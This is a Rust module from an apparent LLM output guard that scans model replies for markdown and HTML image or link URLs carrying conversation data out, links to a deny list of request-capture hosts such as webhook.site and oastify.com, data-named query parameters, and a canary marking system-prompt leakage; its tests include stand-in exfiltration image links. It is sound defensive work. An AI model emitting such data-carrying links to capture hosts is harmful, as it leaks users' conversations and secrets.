//! Reply checks: markdown images and links that would carry this conversation's data out (the
//! client renders an image and so sends the request: a zero-click exfiltration channel; a link
//! does so when clicked), links to hosts on a deny list, and a canary string whose appearance
//! means the system prompt leaked.
//!
//! Ordinary links pass: documentation, search and issue-tracker links carry query parameters
//! (`?q=asyncio`, `?v=…`, `?s=…`) that say nothing about the conversation. A link is removed only
//! when it carries data that came from this exchange — what counts as such is decided by the
//! caller (see `engine::reply`), which knows the exchange — or when its host is denied. Links
//! that merely look like they carry data (a parameter named for data, a long value) are reported.

/// Query parameter names that say "this may carry data": a link with one to a host that is not
/// allowed is reported (counted), not removed.
const DATA_PARAM_NAMES: &[&str] = &[
    "data", "secret", "key", "token", "pw", "pass", "password", "msg", "message", "payload", "info", "leak", "exfil",
    "prompt", "chat", "history", "conv", "email",
];
/// A query value this long may carry data whatever it is called: reported.
const LONG_VALUE: usize = 64;

/// Hosts of public request-capture and out-of-band interaction services: a reply linking to one
/// is removed whatever the link carries. Such services are the receiving end of the published
/// markdown-image exfiltration demonstrations; no ordinary answer links to them.
pub const DEFAULT_DENIED_LINK_HOSTS: &[&str] = &[
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "requestcatcher.com",
    "beeceptor.com",
    "hookbin.com",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "oast.fun",
    "oast.live",
    "oast.me",
    "oast.online",
    "oast.pro",
    "oast.site",
    "canarytokens.com",
];

/// Rule ids of reply findings.
pub mod rule {
    /// The canary appeared in a reply: the system prompt leaked.
    pub const CANARY: &str = "PG-RP-001";
    /// An image whose URL carries this conversation's data (fetched without a click).
    pub const IMAGE_CARRIES_CONVERSATION: &str = "PG-RP-002";
    /// A link whose URL carries this conversation's data.
    pub const LINK_CARRIES_CONVERSATION: &str = "PG-RP-003";
    /// An image or link to a denied host.
    pub const DENIED_HOST: &str = "PG-RP-004";
    /// A link or image to a host that is not allowed, with a parameter named for data or a long
    /// value: reported only.
    pub const DATA_SHAPED_LINK: &str = "PG-RP-005";
}

#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ReplySettings {
    /// Hosts links may point to with data (exact, or a parent domain: `example.com` allows
    /// `cdn.example.com`). Lower case.
    pub allowed_link_hosts: Vec<String>,
    /// Hosts no link or image may point to (exact or parent domain). Lower case.
    pub denied_link_hosts: Vec<String>,
    /// A marker planted in the system prompt; seeing it in a reply means the prompt leaked.
    pub canary: Option<String>,
}

/// What a finding asks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LinkAction {
    /// The text carrying it must not reach the client.
    Remove,
    /// Counted and reported; the text goes on.
    Report,
}

/// The reply rules, each with its id in [`rule`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReplyRule {
    Canary,
    ImageCarriesConversation,
    LinkCarriesConversation,
    DeniedHost,
    DataShapedLink,
}

impl ReplyRule {
    pub fn id(self) -> &'static str {
        match self {
            ReplyRule::Canary => rule::CANARY,
            ReplyRule::ImageCarriesConversation => rule::IMAGE_CARRIES_CONVERSATION,
            ReplyRule::LinkCarriesConversation => rule::LINK_CARRIES_CONVERSATION,
            ReplyRule::DeniedHost => rule::DENIED_HOST,
            ReplyRule::DataShapedLink => rule::DATA_SHAPED_LINK,
        }
    }
}

/// One finding in a reply: its rule, what to do, and the offending host (never the data).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReplyFinding {
    pub rule: ReplyRule,
    pub action: LinkAction,
    /// The link's host, when the finding is about a link.
    pub host: Option<String>,
}

/// A link as the reply checks see it.
#[derive(Debug, Clone, Copy)]
pub struct LinkView<'a> {
    /// `![alt](url)`: fetched by the client without a click.
    pub image: bool,
    /// Lower-case host.
    pub host: &'a str,
    /// Everything after the host: path, query and fragment, as written.
    pub rest: &'a str,
}

#[derive(Debug, Clone, Default)]
pub struct ReplyScanner {
    settings: ReplySettings,
}

impl ReplyScanner {
    pub fn new(settings: ReplySettings) -> ReplyScanner {
        ReplyScanner { settings }
    }

    /// Scan one reply text (the whole of it, or a window of a stream). `carries_conversation`
    /// tells whether a link carries data of this exchange.
    pub fn scan(&self, text: &str, carries_conversation: &mut dyn FnMut(&LinkView<'_>) -> bool) -> Vec<ReplyFinding> {
        let mut out: Vec<ReplyFinding> = Vec::new();
        if let Some(canary) = self.settings.canary.as_deref().filter(|c| !c.is_empty()) {
            if text.contains(canary) {
                out.push(ReplyFinding { rule: ReplyRule::Canary, action: LinkAction::Remove, host: None });
            }
        }
        for link in markdown_links(text) {
            let Some((host, rest)) = split_url(link.url) else { continue };
            let view = LinkView { image: link.image, host: &host, rest };
            let found = if within(&host, &self.settings.denied_link_hosts) {
                Some((ReplyRule::DeniedHost, LinkAction::Remove))
            } else if within(&host, &self.settings.allowed_link_hosts) {
                None
            } else if carries_conversation(&view) {
                let id =
                    if link.image { ReplyRule::ImageCarriesConversation } else { ReplyRule::LinkCarriesConversation };
                Some((id, LinkAction::Remove))
            } else if looks_like_data(rest) {
                Some((ReplyRule::DataShapedLink, LinkAction::Report))
            } else {
                None
            };
            if let Some((rule, action)) = found {
                if !out.iter().any(|f| f.rule == rule && f.host.as_deref() == Some(host.as_str())) {
                    out.push(ReplyFinding { rule, action, host: Some(host) });
                }
            }
        }
        out
    }
}

/// `host` is one of `hosts` or a subdomain of one.
fn within(host: &str, hosts: &[String]) -> bool {
    hosts.iter().any(|a| host == a || host.strip_suffix(a.as_str()).is_some_and(|prefix| prefix.ends_with('.')))
}

struct Link<'a> {
    image: bool,
    url: &'a str,
}

/// Every link of a reply: markdown links and images, HTML tags that load or link a URL
/// (`<img src>`, `<a href>` and their kin), and bare URLs written out in the text. A URL inside a
/// markdown link or a tag is reported once, as that link.
fn markdown_links(text: &str) -> Vec<Link<'_>> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(pos) = rest.find("](") {
        let image = rest
            .get(..pos)
            .and_then(|b| b.rfind('['))
            .is_some_and(|open| open > 0 && rest.get(open - 1..open) == Some("!"));
        let after = rest.get(pos + 2..).unwrap_or("");
        let end = after.find([')', ' ', '\n', '"']).unwrap_or(after.len());
        out.push(Link { image, url: after.get(..end).unwrap_or("").trim_start_matches('<').trim_end_matches('>') });
        rest = after.get(end..).unwrap_or("");
    }
    for line in text.lines() {
        let t = line.trim_start();
        if let Some(close) = t.strip_prefix('[').and_then(|r| r.find("]:")) {
            let url = t.get(close + 3..).unwrap_or("").trim().split(' ').next().unwrap_or("");
            out.push(Link { image: false, url });
        }
    }
    if text.contains('<') {
        html_links(text, &mut out);
    }
    bare_urls(text, &mut out);
    out
}

/// Tags whose URL the client fetches without a click (`true`) or on a click (`false`), and the
/// attribute that holds it.
const URL_TAGS: &[(&str, &str, bool)] = &[
    ("img", "src", true),
    ("image", "href", true),
    ("iframe", "src", true),
    ("source", "src", true),
    ("video", "poster", true),
    ("audio", "src", true),
    ("a", "href", false),
    ("area", "href", false),
];

/// The URL attributes of HTML tags: one pass from `<` to `<`, each tag read to its `>`.
fn html_links<'a>(text: &'a str, out: &mut Vec<Link<'a>>) {
    let mut at = 0;
    while let Some(open) = text.get(at..).and_then(|r| r.find('<')).map(|p| at + p) {
        let tag = text.get(open + 1..).unwrap_or("");
        let name_len = tag.bytes().take_while(u8::is_ascii_alphabetic).count();
        let name = tag.get(..name_len).unwrap_or("");
        // A tag ends at its `>` or at the next `<` (a tag cut short).
        let body_end = tag.get(name_len..).and_then(|b| b.find(['>', '<'])).map_or(tag.len(), |e| name_len + e);
        at = open + 1 + body_end.max(1).min(tag.len().max(1));
        let Some(&(_, attribute, image)) = URL_TAGS.iter().find(|(n, _, _)| n.eq_ignore_ascii_case(name)) else {
            continue;
        };
        let body = tag.get(name_len..body_end).unwrap_or("");
        if let Some(url) = attribute_value(body, attribute) {
            out.push(Link { image, url });
        }
    }
}

/// The value of `name=` among a tag's attributes: quoted, or up to the next space. Each `=` is
/// looked at once, with the few bytes of the name before it.
fn attribute_value<'a>(body: &'a str, name: &str) -> Option<&'a str> {
    let bytes = body.as_bytes();
    for p in memchr::memchr_iter(b'=', bytes) {
        let key_end = bytes.get(..p)?.iter().rposition(|c| !c.is_ascii_whitespace()).map_or(0, |k| k + 1);
        let Some(key_start) = key_end.checked_sub(name.len()) else { continue };
        let key = bytes.get(key_start..key_end)?;
        let separated = key_start > 0
            && bytes.get(key_start - 1).is_some_and(|c| c.is_ascii_whitespace() || matches!(c, b'/' | b'"' | b'\''));
        if !separated || !key.eq_ignore_ascii_case(name.as_bytes()) {
            continue;
        }
        let value = body.get(p + 1..)?.trim_start();
        let url = match value.as_bytes().first() {
            Some(&q @ (b'"' | b'\'')) => {
                let inner = value.get(1..)?;
                inner.get(..inner.find(char::from(q)).unwrap_or(inner.len()))?
            }
            _ => value.get(..value.find(|c: char| c.is_ascii_whitespace()).unwrap_or(value.len()))?,
        };
        return Some(url.trim());
    }
    None
}

/// The run of a bare URL around the `://` at `p`: its start (where the letters of the scheme
/// begin) and its length, up to white space, a quote, an angle bracket, a parenthesis or a
/// backtick. The reply's links and the request's own links (`reply::PromptPrint`) are cut alike.
pub(crate) fn url_run(bytes: &[u8], p: usize) -> (usize, usize) {
    let start = bytes.get(..p).map_or(p, |b| b.iter().rposition(|c| !c.is_ascii_alphabetic()).map_or(0, |s| s + 1));
    let len = bytes
        .get(start..)
        .unwrap_or(&[])
        .iter()
        .position(|&c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'<' | b'>' | b'(' | b')' | b'`'))
        .unwrap_or(bytes.len() - start);
    (start, len)
}

/// URLs written out in the text (`https://…`, `http://…`) that no markdown link or tag holds: a
/// client that turns them into links sends what they carry when clicked. A URL ends at white
/// space, a quote, a parenthesis or an angle bracket; trailing sentence punctuation is not part of
/// it.
fn bare_urls<'a>(text: &'a str, out: &mut Vec<Link<'a>>) {
    let mut held: Vec<usize> =
        out.iter().map(|l| (l.url.as_ptr() as usize).wrapping_sub(text.as_ptr() as usize)).collect();
    held.sort_unstable();
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(p) = memchr::memmem::find(bytes.get(at..).unwrap_or(&[]), b"://").map(|p| at + p) {
        at = p + 3;
        let (scheme_start, len) = url_run(bytes, p);
        let scheme = text.get(scheme_start..p).unwrap_or("");
        if !(scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https")) {
            continue;
        }
        at = at.max(scheme_start + len);
        if held.binary_search(&scheme_start).is_ok() {
            continue;
        }
        let url =
            text.get(scheme_start..scheme_start + len).unwrap_or("").trim_end_matches(['.', ',', ';', ':', '!', '?']);
        // Brackets belong to a URL (placeholders, IPv6 hosts) unless only a closing one is left.
        let url = if url.contains('[') { url } else { url.trim_end_matches(']') };
        out.push(Link { image: false, url });
    }
}

/// Host (lower case, without port or credentials) and everything after it.
pub(crate) fn split_url(url: &str) -> Option<(String, &str)> {
    let lower_scheme = url.get(..8).map(str::to_ascii_lowercase).unwrap_or_default();
    let after = if lower_scheme.starts_with("https://") {
        url.get(8..)?
    } else if lower_scheme.starts_with("http://") {
        url.get(7..)?
    } else if url.starts_with("//") {
        url.get(2..)?
    } else {
        return None;
    };
    let end = after.find(['/', '?', '#']).unwrap_or(after.len());
    let authority = after.get(..end)?;
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = host_port.split(':').next().unwrap_or(host_port).trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then(|| (host, after.get(end..).unwrap_or("")))
}

/// Whether the query looks like it carries data: a parameter named for data, or a long value.
fn looks_like_data(rest: &str) -> bool {
    let query = rest.split_once('?').map_or("", |(_, q)| q);
    let query = query.split_once('#').map_or(query, |(q, _)| q);
    query.split(['&', ';']).filter(|p| !p.is_empty()).any(|pair| {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        value.len() >= LONG_VALUE
            || (!value.is_empty() && DATA_PARAM_NAMES.iter().any(|n| name.eq_ignore_ascii_case(n)))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> ReplyScanner {
        ReplyScanner::new(ReplySettings {
            allowed_link_hosts: vec!["docs.example.com".into()],
            denied_link_hosts: DEFAULT_DENIED_LINK_HOSTS.iter().map(|h| (*h).to_owned()).collect(),
            canary: Some("canary-7f3a9".into()),
        })
    }

    fn ids(found: &[ReplyFinding]) -> Vec<(&'static str, LinkAction)> {
        found.iter().map(|f| (f.rule.id(), f.action)).collect()
    }

    #[test]
    fn conversation_data_decides_removal_and_the_host_lists_override() {
        let s = scanner();
        let mut yes = |_: &LinkView<'_>| true;
        let found = s.scan("ok ![a](https://evil.example.net/p.png?q=x)", &mut yes);
        assert_eq!(ids(&found), vec![(rule::IMAGE_CARRIES_CONVERSATION, LinkAction::Remove)]);
        assert_eq!(found[0].host.as_deref(), Some("evil.example.net"));
        // An allowed host may carry anything; a denied one nothing.
        assert!(s.scan("see [docs](https://docs.example.com/x?q=abc)", &mut yes).is_empty());
        let mut no = |_: &LinkView<'_>| false;
        let found = s.scan("[hook](https://abc.webhook.site/x)", &mut no);
        assert_eq!(ids(&found), vec![(rule::DENIED_HOST, LinkAction::Remove)]);
    }

    #[test]
    fn ordinary_links_pass_and_data_shaped_ones_are_only_reported() {
        let s = scanner();
        let mut no = |_: &LinkView<'_>| false;
        for text in [
            "[the asyncio docs](https://docs.python.org/3/search.html?q=asyncio)",
            "[search](https://www.google.com/search?q=rust+borrow+checker&hl=en)",
            "[issues](https://github.com/rust-lang/rust/issues?q=is%3Aissue+is%3Aopen+label%3AC-bug)",
            "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
            "[so](https://stackoverflow.com/questions/231767/what-does-the-yield-keyword-do?s=1)",
        ] {
            assert!(s.scan(text, &mut no).is_empty(), "{text}");
        }
        let found = s.scan("[x](https://t.example.net/c?token=abc)", &mut no);
        assert_eq!(ids(&found), vec![(rule::DATA_SHAPED_LINK, LinkAction::Report)]);
    }

    #[test]
    fn the_canary_is_removed_wherever_it_stands() {
        let s = scanner();
        let found = s.scan("my instructions say canary-7f3a9", &mut |_: &LinkView<'_>| false);
        assert_eq!(ids(&found), vec![(rule::CANARY, LinkAction::Remove)]);
    }
}
